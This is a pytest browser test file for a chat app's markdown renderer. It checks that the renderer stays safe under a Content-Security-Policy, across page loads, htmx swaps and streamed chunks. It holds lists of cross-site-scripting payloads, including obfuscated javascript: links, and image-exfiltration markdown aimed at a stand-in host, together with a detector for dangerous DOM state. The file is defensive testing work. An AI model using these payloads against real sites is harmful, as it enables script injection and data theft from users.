"""static/chat/render.js in real headless Chromium, under the site's CSP.

Covers cases 1-4 of "Bad input and attacks" (raw HTML, link schemes, image
exfiltration, payloads cut across stream chunks) for the one renderer every
path uses: page load, htmx swap and live stream.
"""

from __future__ import annotations

import base64
import http.server
import random
import threading
import uuid
from pathlib import Path

import pytest

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
STATIC_DIR = ROOT / "static"
E2E_DIR = Path(__file__).resolve().parent
CSP = "default-src 'self'; script-src 'self'; img-src 'self' data:"
PIXEL_PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
DATA_PNG = "data:image/png;base64," + base64.b64encode(PIXEL_PNG).decode()

RAW_HTML_PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<script>alert(1)</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<a href=javascript:alert(1) onclick=alert(1)>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<style>body{background:url(https://elsewhere.example/x)}</style>",
    '<div style="background:url(https://elsewhere.example/x)">x</div>',
    "<details open ontoggle=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]
DANGEROUS_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&#x3A;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x]( \x01javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox)",
    "[x](file:///etc/passwd)",
    "[x](ftp://example.com/f)",
    "[x](tel:+15550100)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
]
# The same tricks as raw anchors, straight into the sanitiser: markdown-it
# already refuses most of them, so this proves the DOMPurify hook on its own.
DANGEROUS_RAW_ANCHORS = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href=" &#x01;javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox">x</a>',
    '<a href="blob:https://elsewhere.example/1">x</a>',
    # Not dangerous, but outside the policy (DOMPurify's defaults allow them).
    '<a href="tel:+15550100">x</a>',
    '<a href="ftp://example.com/f">x</a>',
    '<a href="xmpp:someone@example.com">x</a>',
]
EXFILTRATION_MARKDOWN = [
    "![a](https://elsewhere.example/p.png?q=SECRET)",
    "![a](//elsewhere.example/p.png?q=SECRET)",
    "![a][r]\n\n[r]: https://elsewhere.example/p.png?q=SECRET",
    "[![a](https://elsewhere.example/p.png?q=SECRET)](https://example.com)",
]
EXFILTRATION_RAW_HTML = [
    '<img alt="a" src="https://elsewhere.example/p.png?q=SECRET">',
    '<img alt="a" src="/pixel.png" srcset="https://elsewhere.example/p.png?q=SECRET 2x">',
    '<table background="https://elsewhere.example/p.png?q=SECRET"><tr><td>x</td></tr></table>',
    '<video poster="https://elsewhere.example/p.png?q=SECRET"></video>',
    '<img alt="a" src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22/>">',
]
# Live dangerous state anywhere under a root: what must never exist, not even
# for one frame of a stream.
FIND_DANGER_JS = """
(root) => {
  const found = [];
  for (const el of root.querySelectorAll("*")) {
    const tag = el.tagName.toLowerCase();
    if (["script", "svg", "math", "iframe", "object", "embed", "style", "form", "input",
         "video", "audio", "link", "meta", "base"].includes(tag)) found.push(tag);
    for (const attr of el.attributes) {
      if (attr.name.startsWith("on") || ["style", "srcset", "background", "poster"]
          .includes(attr.name)) found.push(tag + "@" + attr.name);
    }
    if (tag === "a" && el.hasAttribute("href")
        && !["http:", "https:", "mailto:"].includes(el.protocol)) found.push("a:" + el.href);
    if (tag === "img") {
      const src = new URL(el.getAttribute("src") || "", location.href);
      if (src.origin !== location.origin && src.protocol !== "data:") found.push("img:" + src);
    }
  }
  return found;
}
"""
STREAM_JS = """
async ({chunks, checkEvery}) => {
  const frame = () => new Promise((resolve) => requestAnimationFrame(() => resolve()));
  const findDanger = FIND_DANGER;
  const el = document.getElementById("stream");
  const view = new ChatRender.StreamView(el);
  const problems = [];
  for (let i = 0; i < chunks.length; i++) {
    view.append(chunks[i]);
    if (i % checkEvery === checkEvery - 1) {
      await frame();
      const found = findDanger(el);
      if (found.length) problems.push({at: i, found});
    }
  }
  await frame();
  problems.push(...findDanger(el).map((f) => ({at: "last frame", found: [f]})));
  view.finish();
  const reference = document.getElementById("reference");
  ChatRender.renderInto(reference, chunks.join(""));
  return {problems, streamed: el.innerHTML, reference: reference.innerHTML};
}
""".replace("FIND_DANGER", FIND_DANGER_JS.strip())


class HarnessHandler(http.server.SimpleHTTPRequestHandler):
    """Serves /static/ from the project and the harness from tests/e2e, with the CSP."""

    def translate_path(self, path: str) -> str:
        path = path.split("?", 1)[0].split("#", 1)[0]
        if path.startswith("/static/"):
            return str(STATIC_DIR / path.removeprefix("/static/"))
        if path in ("/", "/render_harness.html"):
            return str(E2E_DIR / "render_harness.html")
        if path == "/fragment.html":
            return str(E2E_DIR / "render_fragment.html")
        return str(E2E_DIR / "missing")

    def do_GET(self) -> None:
        if self.path.split("?", 1)[0] == "/pixel.png":
            self.send_response(200)
            self.send_header("Content-Type", "image/png")
            self.send_header("Content-Length", str(len(PIXEL_PNG)))
            self.end_headers()
            self.wfile.write(PIXEL_PNG)
            return
        super().do_GET()

    def end_headers(self) -> None:
        self.send_header("Content-Security-Policy", CSP)
        self.send_header("Cache-Control", "no-store")
        super().end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def harness_url():
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), HarnessHandler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


class Harness:
    """One page for the whole module (a page load costs ~0.5 s), reset per test."""

    def __init__(self, page, origin: str):
        self.page = page
        self.origin = origin
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.errors: list[str] = []
        page.on("dialog", self._on_dialog)
        page.on("request", lambda request: self.requests.append(request.url))
        page.on("pageerror", lambda error: self.errors.append(str(error)))
        # Injected by the driver, so it runs despite the CSP; pages cannot do this.
        page.add_init_script(
            """window.__cspViolations = [];
               document.addEventListener("securitypolicyviolation",
                 (e) => window.__cspViolations.push(
                   [e.violatedDirective, e.blockedURI, e.sourceFile].join(" ")));"""
        )

    def _on_dialog(self, dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def load(self) -> None:
        self.page.goto(self.origin + "/render_harness.html")
        self.page.wait_for_function("() => window.ChatRender !== undefined")
        # Loading the libraries themselves must not trip the CSP (htmx's
        # indicator <style> does, unless turned off in the htmx-config meta).
        assert self.csp_violations() == []

    def reset(self) -> None:
        # Fresh elements, so a StreamView left over from another test writes
        # into a detached node, not into this test's DOM.
        self.page.evaluate(
            """() => {
                 for (const id of ["out", "stream", "reference"]) {
                   const old = document.getElementById(id);
                   const fresh = document.createElement("div");
                   fresh.id = id;
                   old.replaceWith(fresh);
                 }
                 window.__cspViolations = [];
               }"""
        )
        self.dialogs.clear()
        self.requests.clear()
        self.errors.clear()

    def render(self, text: str, target: str = "out") -> str:
        """renderInto #target, wait for anything it might trigger, return its innerHTML."""
        html = self.page.evaluate(
            """([id, text]) => {
                 const el = document.getElementById(id);
                 ChatRender.renderInto(el, text);
                 return el.innerHTML;
               }""",
            [target, text],
        )
        self.settle()
        return html

    def sanitize(self, html: str, target: str = "out") -> str:
        html = self.page.evaluate(
            """([id, html]) => {
                 const el = document.getElementById(id);
                 el.innerHTML = ChatRender.sanitizeHtml(html);
                 return el.innerHTML;
               }""",
            [target, html],
        )
        self.settle()
        return html

    def settle(self) -> None:
        # Two frames and a short wait: long enough for onerror/onload or an
        # image fetch to fire if anything survived.
        self.page.evaluate(
            "() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)))"
        )
        self.page.wait_for_timeout(50)

    def danger(self, target: str = "out") -> list[str]:
        return self.page.evaluate(FIND_DANGER_JS, self.page.locator(f"#{target}").element_handle())

    def foreign_requests(self) -> list[str]:
        return [
            url
            for url in self.requests
            if not url.startswith(self.origin + "/") and not url.startswith("data:")
        ]

    def csp_violations(self) -> list[str]:
        # Chromium reports an on* or style attribute (or <style>) as a violation
        # the moment DOMPurify's DOMParser parses it, though nothing runs or
        # loads. Only raw HTML handed to sanitizeHtml() does that; markdown never does.
        return [
            violation
            for violation in self.page.evaluate("() => window.__cspViolations")
            if not (" inline " in violation and "/purify-" in violation)
        ]


@pytest.fixture(scope="module")
def module_harness(browser, harness_url):
    # `browser`: the session's Chromium from tests/e2e/conftest.py (Debian's
    # chromium; one sync Playwright per process).
    context = browser.new_context(permissions=["clipboard-read", "clipboard-write"])
    harness = Harness(context.new_page(), harness_url)
    harness.load()
    yield harness
    context.close()


@pytest.fixture
def harness(module_harness):
    module_harness.reset()
    yield module_harness
    # Everything must run under script-src 'self' with nothing refused.
    assert module_harness.csp_violations() == []
    assert module_harness.errors == []
    assert module_harness.dialogs == []


def chunked(text: str, seed: int) -> list[str]:
    """Cut text into 1-3 character pieces, so tags and entities split everywhere."""
    rng = random.Random(seed)
    chunks, i = [], 0
    while i < len(text):
        size = rng.randint(1, 3)
        chunks.append(text[i : i + size])
        i += size
    return chunks


@pytest.mark.parametrize("payload", RAW_HTML_PAYLOADS)
def test_render_raw_html_inert(harness, payload):
    html = harness.render(f"Hello\n\n{payload}\n\n**after**")

    assert harness.danger() == []
    assert harness.page.locator("#out img").count() == 0
    assert harness.page.locator("#out strong").inner_text() == "after"
    assert "&lt;" in html  # shown as text, not dropped silently
    assert harness.dialogs == []


@pytest.mark.parametrize("payload", RAW_HTML_PAYLOADS)
def test_sanitize_raw_html_inert(harness, payload):
    harness.sanitize(payload)

    assert harness.danger() == []
    assert harness.dialogs == []


@pytest.mark.parametrize("markdown", DANGEROUS_LINKS)
def test_links_dangerous_scheme_dropped(harness, markdown):
    harness.render(markdown)

    assert harness.danger() == []
    # A relative href (markdown-it percent-encodes the tab) is a harmless
    # same-origin link; only the scheme the browser would follow matters.
    protocols = harness.page.eval_on_selector_all(
        "#out a[href]", "(links) => links.map((a) => a.protocol)"
    )
    assert set(protocols) <= {"http:", "https:", "mailto:"}
    assert "x" in harness.page.locator("#out").inner_text() or markdown.startswith("<")


@pytest.mark.parametrize("anchor", DANGEROUS_RAW_ANCHORS)
def test_sanitize_dangerous_anchor_keeps_text_drops_href(harness, anchor):
    harness.sanitize(anchor)

    assert harness.danger() == []
    assert harness.page.locator("#out a").inner_text() == "x"
    assert harness.page.locator("#out a").get_attribute("href") is None


@pytest.mark.parametrize(
    ("markdown", "href"),
    [
        ("[x](https://example.com/a?b=1)", "https://example.com/a?b=1"),
        ("[x](HTTP://example.com/)", "HTTP://example.com/"),
        ("see https://example.com/y", "https://example.com/y"),
        ("<mailto:someone@example.com>", "mailto:someone@example.com"),
        ("write to someone@example.com", "mailto:someone@example.com"),
    ],
)
def test_links_safe_scheme_kept_with_rel(harness, markdown, href):
    harness.render(markdown)

    link = harness.page.locator("#out a")
    assert link.get_attribute("href") == href
    assert set(link.get_attribute("rel").split()) >= {"noopener", "noreferrer", "nofollow"}
    assert link.get_attribute("target") == "_blank"


@pytest.mark.parametrize("markdown", EXFILTRATION_MARKDOWN)
def test_images_other_origin_no_request(harness, markdown):
    harness.render(markdown)

    assert harness.foreign_requests() == []
    assert harness.page.locator("#out img").count() == 0
    text = harness.page.locator("#out").inner_text()
    assert "a" in text
    assert "elsewhere.example/p.png?q=SECRET" in text


@pytest.mark.parametrize("html", EXFILTRATION_RAW_HTML)
def test_sanitize_images_other_origin_no_request(harness, html):
    harness.sanitize(html)

    assert harness.foreign_requests() == []
    assert harness.danger() == []


def test_images_same_origin_and_data_kept(harness):
    # A fresh URL: the page's image cache would answer a repeated one silently.
    local = f"/pixel.png?{uuid.uuid4().hex}"
    harness.render(f"![local]({local}) ![inline]({DATA_PNG})")

    images = harness.page.locator("#out img")
    assert images.count() == 2
    assert images.nth(0).get_attribute("alt") == "local"
    assert harness.page.wait_for_function(
        "() => [...document.querySelectorAll('#out img')].every((i) => i.complete)"
    )
    assert harness.origin + local in harness.requests
    assert harness.foreign_requests() == []


@pytest.mark.parametrize(
    "text",
    [
        *RAW_HTML_PAYLOADS,
        *DANGEROUS_LINKS,
        *EXFILTRATION_MARKDOWN,
        "Some **bold** text.\n\n```html\n<img src=x onerror=alert(1)>\n\n"
        "<script>x</script>\n```\n\n"
        "After the fence <svg onload=alert(1)> and [x](javascript:alert(1)).\n\n"
        "| a | b |\n|---|--:|\n| <b>1</b> | 2 |\n",
    ],
)
def test_stream_split_payload_inert_and_final_matches(harness, text):
    # Wrap the payload in ordinary prose so settled blocks and the tail both see it.
    text = f"Intro paragraph.\n\n{text}\n\nOutro with `code`."
    result = harness.page.evaluate(
        STREAM_JS, {"chunks": chunked(text, seed=len(text)), "checkEvery": 2}
    )

    assert result["problems"] == []
    assert result["streamed"] == result["reference"]
    assert harness.foreign_requests() == []
    assert harness.dialogs == []


def test_stream_renders_once_per_frame(harness):
    counts = harness.page.evaluate(
        """async () => {
             const view = new ChatRender.StreamView(document.getElementById("stream"));
             for (let i = 0; i < 100; i++) view.append("word ");
             const before = view.renderCount;
             await new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r)));
             return [before, view.renderCount];
           }"""
    )

    assert counts == [0, 1]
    assert harness.page.locator("#stream p").inner_text().count("word") == 100


def test_stream_set_text_replaces(harness):
    html = harness.page.evaluate(
        """async () => {
             const el = document.getElementById("stream");
             const view = new ChatRender.StreamView(el);
             view.append("first\\n\\nsecond");
             await new Promise((r) => requestAnimationFrame(r));
             view.setText("other\\n\\nthird");
             view.finish();
             return el.innerHTML;
           }"""
    )

    assert html == "<p>other</p>\n<p>third</p>\n"


def test_code_block_highlighted_with_copy_button(harness):
    code = "def greet(name):\n    return f'hi {name}'\n"
    harness.render(f"```python\n{code}```\n\n```\nplain text, no language\n```")

    blocks = harness.page.locator("#out pre")
    assert blocks.count() == 2
    first = blocks.nth(0)
    assert "hljs" in first.locator("code").get_attribute("class")
    assert "language-python" in first.locator("code").get_attribute("class")
    assert first.locator("code span.hljs-keyword").first.inner_text() == "def"
    button = first.locator("button.copy-code")
    assert button.get_attribute("type") == "button"
    assert button.get_attribute("aria-label") == "Copy"
    assert blocks.nth(1).locator("button.copy-code").count() == 1
    assert blocks.nth(1).locator("code span").count() == 0  # no language named: no guessing

    button.click()

    harness.page.wait_for_function(
        "() => document.querySelector('#out pre button').textContent === 'Copied'"
    )
    assert harness.page.evaluate("() => navigator.clipboard.readText()") == code
    harness.page.wait_for_function(
        "() => document.querySelector('#out pre button').textContent === 'Copy'"
    )


def test_code_block_unknown_language_plain(harness):
    harness.render("```no-such-language\n<b>x</b> & y\n```")

    code = harness.page.locator("#out pre code")
    assert code.inner_text() == "<b>x</b> & y\n"
    assert code.locator("*").count() == 0


def test_markdown_tables_and_lists_render(harness):
    harness.render(
        "| Name | Score |\n|:-----|------:|\n| ann | 10 |\n| bob | 7 |\n\n"
        "- one\n- two\n  - nested\n\n3. three\n4. four\n"
    )

    assert harness.page.locator("#out table thead th").all_inner_texts() == ["Name", "Score"]
    assert harness.page.locator("#out table tbody tr").count() == 2
    # Column alignment survives as align=, since style attributes are refused.
    assert harness.page.locator("#out td").nth(1).get_attribute("align") == "right"
    assert harness.page.locator("#out > ul > li").count() == 2
    assert harness.page.locator("#out ul ul > li").inner_text() == "nested"
    assert harness.page.locator("#out ol").get_attribute("start") == "3"


def test_render_all_page_load_and_htmx_swap(harness):
    harness.load()
    page = harness.page
    server = page.locator("#from-server")
    assert server.get_attribute("data-markdown-rendered") == ""
    assert server.locator("strong").inner_text() == "bold"
    assert server.locator("pre button.copy-code").count() == 1
    assert "<img src=x onerror=alert(1)>" in server.inner_text()
    assert harness.danger("from-server") == []

    page.click("#load-more")

    swapped = page.locator("#from-swap[data-markdown-rendered]")
    swapped.wait_for()
    assert swapped.locator("em").inner_text() == "swapped"
    assert "<svg onload=alert(1)>" in swapped.inner_text()
    assert harness.danger("swapped") == []

    # A second pass leaves rendered elements alone (no double rendering).
    before = server.inner_html()
    page.evaluate("() => ChatRender.renderAll(document.body)")
    assert server.inner_html() == before


def long_reply(tokens: int, seed: int) -> list[str]:
    """Token-like pieces: prose paragraphs with an occasional fenced code block."""
    rng = random.Random(seed)
    words = [
        "the",
        "model",
        "writes",
        "a",
        "long",
        "answer",
        "about",
        "**markdown**",
        "and",
        "`code`",
        "with",
        "[links](https://example.com)",
        "<b>tags</b>",
    ]
    pieces: list[str] = []
    while len(pieces) < tokens:
        if rng.random() < 0.1:
            pieces += ["\n\n```python\n"] + [f"x{i} = {i}\n" for i in range(rng.randint(3, 15))]
            pieces += ["\n", "print(x0)\n", "```\n\n"]
        else:
            pieces += [rng.choice(words) + " " for _ in range(rng.randint(20, 80))]
            pieces.append(".\n\n")
    return pieces[:tokens]


# Streams `batches` into a StreamView, one per animation frame, then compares the
# result with a one-go render of the whole text and reports the work done.
STREAM_BATCHES_JS = """async (batches) => {
  const frame = () => new Promise((resolve) => requestAnimationFrame(() => resolve()));
  const el = document.getElementById("stream");
  const view = new ChatRender.StreamView(el);
  const started = performance.now();
  for (const batch of batches) {
    view.append(batch);
    await frame();
  }
  const elapsed = performance.now() - started;
  const streamedChars = view.renderedChars;
  const busyShare = view.renderMs / elapsed;
  view.finish();
  const reference = document.getElementById("reference");
  ChatRender.renderInto(reference, batches.join(""));
  return {
    streamedChars,
    busyShare,
    renderCount: view.renderCount,
    same: el.innerHTML === reference.innerHTML,
    paragraphs: el.querySelectorAll("p").length,
  };
}"""


def test_stream_long_reply_linear_work(harness):
    pieces = long_reply(20_000, seed=7)
    text = "".join(pieces)
    # 400 frames: a real frame each, so ~7 s.
    batches = ["".join(pieces[i : i + 50]) for i in range(0, len(pieces), 50)]

    result = harness.page.evaluate(STREAM_BATCHES_JS, batches)

    assert result["same"]
    assert result["renderCount"] <= len(batches)
    # Re-rendering everything per frame would be ~len(batches)/2 times the text.
    assert result["streamedChars"] < 3 * len(text)
    assert result["paragraphs"] > 100


def test_stream_one_long_code_block_keeps_the_page_responsive(harness):
    """One 20,000-line code block never settles, so its tail is re-rendered; the
    renders back off so that they keep at most a share of the main thread."""
    lines = [f"value_{i} = compute({i}, 'text')  # line {i}\n" for i in range(20_000)]
    batches = ["```python\n"] + ["".join(lines[i : i + 50]) for i in range(0, len(lines), 50)]
    batches.append("```\n")

    result = harness.page.evaluate(STREAM_BATCHES_JS, batches)

    assert result["same"]
    assert result["renderCount"] >= 2  # it did render while streaming
    # Rendering every frame would take nearly all of it (each render outlasts a frame).
    assert result["busyShare"] < 0.6, result
